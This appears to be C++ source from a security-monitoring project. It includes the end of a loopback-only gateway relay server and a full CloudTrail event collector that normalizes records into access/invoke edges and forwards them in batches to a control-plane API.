  for (int i = 1; i < argc - 1; ++i) {
    if (!strcmp(argv[i], "--port")) port = atoi(argv[i + 1]);
    if (!strcmp(argv[i], "--token")) g_token = argv[i + 1];
  }
  if (const char* env_token = getenv("RELAY_TOKEN")) g_token = env_token;
  signal(SIGPIPE, SIG_IGN);

  int listener = socket(AF_INET, SOCK_STREAM, 0);
  int one = 1;
  setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  addr.sin_port = htons(static_cast<uint16_t>(port));
  if (bind(listener, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) != 0 ||
      listen(listener, 512) != 0) {
    std::cerr << "gateway-relay: failed to bind 127.0.0.1:" << port << "\n";
    return 1;
  }
  std::vector<std::thread> pool;
  pool.reserve(kWorkers);
  for (int i = 0; i < kWorkers; ++i) pool.emplace_back(worker);
  std::cout << "agent-bom gateway-relay listening on 127.0.0.1:" << port
            << (g_token.empty() ? " (no auth)" : " (bearer auth)") << std::endl;
  for (;;) {
    int fd = accept(listener, nullptr, nullptr);
    if (fd < 0) continue;
    {
      std::lock_guard<std::mutex> lock(g_mu);
      if (g_queue.size() > 2048) {  // overload shed
        close(fd);
        continue;
      }
      g_queue.push_back(fd);
    }
    g_cv.notify_one();
  }
}
