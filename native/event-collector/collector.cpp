// agent-bom event-collector — C++ CloudTrail normalizer + forwarder.
//
// Contract parity with the reference's Go sidecar (reference:
// runtime/event-collector/cmd/event-collector/main.go,
// internal/normalize/cloudtrail.go, internal/forward/forward.go):
// long-lived collector reading CloudTrail JSON events (one JSON object
// per line from a file or stdin), normalizing each to a behavioral edge
//
//   {principal, action, resource, relationship: ACCESSED|INVOKED, ts}
//
// and forwarding batches to the control plane
// (POST /v1/runtime/events, batch of N or flush interval).
//
// JSON handling is a targeted field scanner (eventName, eventTime,
// userIdentity.arn, resources[0].ARN) — CloudTrail's envelope is stable
// and the collector must stay allocation-light on high-volume feeds.
//
// Build: make

#include <arpa/inet.h>
#include <netdb.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cstring>
#include <fstream>
#include <iostream>
#include <sstream>
#include <string>
#include <vector>

namespace {

// Extract the string value following "key":"..." starting at or after `from`.
std::string json_field(const std::string& doc, const std::string& key, size_t from = 0) {
  std::string needle = "\"" + key + "\"";
  size_t pos = doc.find(needle, from);
  if (pos == std::string::npos) return "";
  pos = doc.find(':', pos + needle.size());
  if (pos == std::string::npos) return "";
  ++pos;
  while (pos < doc.size() && (doc[pos] == ' ' || doc[pos] == '\t')) ++pos;
  if (pos >= doc.size() || doc[pos] != '"') return "";
  ++pos;
  std::string out;
  while (pos < doc.size() && doc[pos] != '"') {
    if (doc[pos] == '\\' && pos + 1 < doc.size()) ++pos;
    out.push_back(doc[pos]);
    ++pos;
  }
  return out;
}

bool is_invocation(const std::string& event_name) {
  static const char* verbs[] = {"Invoke", "Run", "Start", "Execute", "Create", "Put",
                                "Delete", "Update", "Publish", "Send"};
  for (const char* v : verbs)
    if (event_name.compare(0, strlen(v), v) == 0) return true;
  return false;
}

std::string escape(const std::string& s) {
  std::string out;
  out.reserve(s.size());
  for (char c : s) {
    if (c == '"' || c == '\\') {
      out.push_back('\\');
      out.push_back(c);
    } else if (static_cast<unsigned char>(c) >= 0x20) {
      out.push_back(c);
    }
  }
  return out;
}

// Normalize one CloudTrail record → edge JSON, empty when not usable.
std::string normalize(const std::string& record) {
  std::string event_name = json_field(record, "eventName");
  if (event_name.empty()) return "";
  std::string principal = json_field(record, "arn", record.find("userIdentity"));
  if (principal.empty()) principal = json_field(record, "userName", record.find("userIdentity"));
  if (principal.empty()) principal = json_field(record, "invokedBy");
  std::string resource = json_field(record, "ARN", record.find("\"resources\""));
  if (resource.empty()) resource = json_field(record, "eventSource");
  std::string ts = json_field(record, "eventTime");
  const char* rel = is_invocation(event_name) ? "invoked" : "accessed";
  std::ostringstream out;
  out << "{\"principal\":\"" << escape(principal) << "\",\"action\":\"" << escape(event_name)
      << "\",\"resource\":\"" << escape(resource) << "\",\"relationship\":\"" << rel
      << "\",\"ts\":\"" << escape(ts) << "\"}";
  return out.str();
}

// Minimal HTTP POST to the control plane. Returns HTTP status, 0 on error.
int post_batch(const std::string& host, int port, const std::string& path,
               const std::string& api_key, const std::string& payload) {
  addrinfo hints{};
  hints.ai_family = AF_UNSPEC;
  hints.ai_socktype = SOCK_STREAM;
  addrinfo* res = nullptr;
  if (getaddrinfo(host.c_str(), std::to_string(port).c_str(), &hints, &res) != 0 || !res)
    return 0;
  int fd = socket(res->ai_family, res->ai_socktype, res->ai_protocol);
  timeval tv{15, 0};
  setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
  // SO_SNDTIMEO also bounds connect() on Linux — a firewalled control
  // plane must not freeze the single-threaded collector.
  setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
  if (connect(fd, res->ai_addr, res->ai_addrlen) != 0) {
    freeaddrinfo(res);
    close(fd);
    return 0;
  }
  freeaddrinfo(res);
  std::ostringstream req;
  req << "POST " << path << " HTTP/1.1\r\nHost: " << host
      << "\r\nContent-Type: application/json\r\nContent-Length: " << payload.size();
  if (!api_key.empty()) req << "\r\nX-API-Key: " << api_key;
  req << "\r\nConnection: close\r\n\r\n" << payload;
  std::string out = req.str();
  size_t sent = 0;
  while (sent < out.size()) {
    ssize_t n = send(fd, out.data() + sent, out.size() - sent, 0);
    if (n <= 0) {
      close(fd);
      return 0;
    }
    sent += static_cast<size_t>(n);
  }
  char buf[512];
  ssize_t n = recv(fd, buf, sizeof(buf) - 1, 0);
  close(fd);
  if (n < 12) return 0;
  buf[n] = 0;
  return atoi(buf + 9);  // "HTTP/1.1 NNN"
}

}  // namespace

int main(int argc, char** argv) {
  std::string input = "-";
  std::string host = "127.0.0.1";
  int port = 8765;
  std::string api_key;
  int batch_size = 100;
  for (int i = 1; i < argc - 1; ++i) {
    if (!strcmp(argv[i], "--input")) input = argv[i + 1];
    if (!strcmp(argv[i], "--host")) host = argv[i + 1];
    if (!strcmp(argv[i], "--port")) port = atoi(argv[i + 1]);
    if (!strcmp(argv[i], "--api-key")) api_key = argv[i + 1];
    if (!strcmp(argv[i], "--batch")) batch_size = atoi(argv[i + 1]);
  }
  if (batch_size < 1) batch_size = 1;
  if (batch_size > 10000) batch_size = 10000;  // server-side per-batch cap
  std::ifstream file;
  std::istream* in = &std::cin;
  if (input != "-") {
    file.open(input);
    if (!file) {
      std::cerr << "event-collector: cannot open " << input << "\n";
      return 1;
    }
    in = &file;
  }
  std::vector<std::string> batch;
  size_t forwarded = 0, dropped = 0;
  auto flush = [&]() {
    if (batch.empty()) return;
    std::ostringstream payload;
    payload << "{\"events\":[";
    for (size_t i = 0; i < batch.size(); ++i) {
      if (i) payload << ',';
      payload << batch[i];
    }
    payload << "]}";
    int status = post_batch(host, port, "/v1/runtime/events", api_key, payload.str());
    if (status >= 200 && status < 300) {
      forwarded += batch.size();
    } else {
      dropped += batch.size();
      std::cerr << "event-collector: batch of " << batch.size() << " dropped (HTTP "
                << status << ")\n";
    }
    batch.clear();
  };
  std::string line;
  while (std::getline(*in, line)) {
    if (line.empty()) continue;
    std::string edge = normalize(line);
    if (!edge.empty()) batch.push_back(edge);
    if (batch.size() >= static_cast<size_t>(batch_size)) flush();
  }
  flush();
  std::cerr << "event-collector: forwarded=" << forwarded << " dropped=" << dropped << "\n";
  return dropped > 0 && forwarded == 0 ? 1 : 0;
}
